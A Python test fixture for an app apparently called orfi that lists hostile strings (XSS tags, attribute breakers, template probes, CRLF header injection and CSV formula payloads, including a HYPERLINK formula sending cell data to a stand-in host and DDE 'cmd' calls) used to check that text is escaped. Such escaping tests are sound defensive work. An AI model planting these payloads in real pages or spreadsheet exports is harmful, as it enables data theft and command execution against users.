"""Hostile strings every free text of orfi must show as text, never run.

Used by ``tests/test_escaping.py`` (pages, JSON, exports) and
``tests/test_e2e_escaping.py`` (the browser). Each payload has an id that names it in
test reports. Sources: the OWASP XSS filter evasion and CSV injection cheat sheets,
trimmed to what a résidence name, a category label or a description can hold.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    """A hostile string and the id that names it in test reports."""

    id: str
    text: str

    def __str__(self) -> str:
        return self.id


#: Characters a spreadsheet reads as the start of a formula (OWASP CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

PAYLOADS: tuple[Payload, ...] = (
    # Markup and script.
    Payload("script-tag", "<script>alert('orfi-xss')</script>"),
    Payload("img-onerror", '"><img src=x onerror=alert(1)>'),
    Payload("svg-onload", "<svg/onload=alert(1)>"),
    Payload("script-close", "</script><script>alert(1)</script>"),
    Payload("textarea-close", "</textarea><script>alert(1)</script>"),
    Payload("title-close", "</title><img src=x onerror=alert(1)>"),
    Payload("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    Payload("details-ontoggle", "<details open ontoggle=alert(1)>"),
    Payload("html-comment", "<!-- --><img src=x onerror=alert(1)>"),
    Payload("bold", "<b>gras</b> & <i>italique</i>"),
    # Attribute breakers.
    Payload("double-quote", '" onmouseover="alert(1)" x="'),
    Payload("single-quote", "' onfocus='alert(1)' autofocus x='"),
    Payload("backtick", "`onfocus=alert(1) autofocus x=`"),
    Payload("javascript-url", "javascript:alert(document.domain)//"),
    Payload("data-url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    # Template and JSON contexts.
    Payload("jinja", "{{7*7}} {% if 1 %}x{% endif %} ${7*7} #{7*7}"),
    Payload("json-breaker", '"}]});alert(1);//\\u003c/script\\u003e'),
    Payload("entities", "&lt;b&gt;déjà échappé&lt;/b&gt; &amp;amp; &#60;x&#62;"),
    # Spreadsheets (CSV/XLSX formula injection).
    Payload(
        "formula-hyperlink", '=HYPERLINK("http://intrus.invalid/?d="&A1;"Cliquez")'
    ),
    Payload("formula-plus", "+cmd|' /C calc'!A0"),
    Payload("formula-minus", "-1+1"),
    Payload("formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Payload("formula-tab", "\t=1+1"),
    Payload("formula-cr", "\r=1+1"),
    # Text oddities.
    Payload("rtl-override", "Résidence \u202egnp.exe\u202c Les Izards"),
    Payload("crlf-header", "Objet\r\nX-Intrus: oui\r\n\r\n<b>corps</b>"),
    Payload("long", "Très long " + "x<b>y</b>" * 120),
    Payload("null-ish", "null"),
    Payload("undefined", "undefined"),
)

#: The ids, in order (for ``pytest.mark.parametrize(..., ids=IDS)``).
IDS: tuple[str, ...] = tuple(p.id for p in PAYLOADS)


def starts_like_formula(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as a formula."""
    return text[:1] in FORMULA_STARTS
